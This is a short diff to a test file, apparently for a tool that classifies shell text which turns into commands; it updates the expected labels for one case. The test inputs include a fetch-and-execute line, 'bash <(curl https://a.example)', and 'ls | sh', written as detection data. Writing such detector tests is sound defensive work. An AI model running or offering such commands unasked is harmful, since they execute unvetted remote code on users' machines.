@@ -16,7 +16,7 @@ describe('text that becomes commands', () => {
     [
       'in a substitution of files',
       'bash <(curl https://a.example)',
-      ['net.request', 'code.eval downloaded', 'opaque /dev/fd/63 downloaded'],
+      ['net.request', 'code.eval downloaded', 'opaque /dev/fd/63 downloaded outside-project'],
     ],
     ['whatever a program prints', 'ls | sh', ['code.eval dynamic']],
     ['of another language', "python -c 'x'", ['code.eval']],
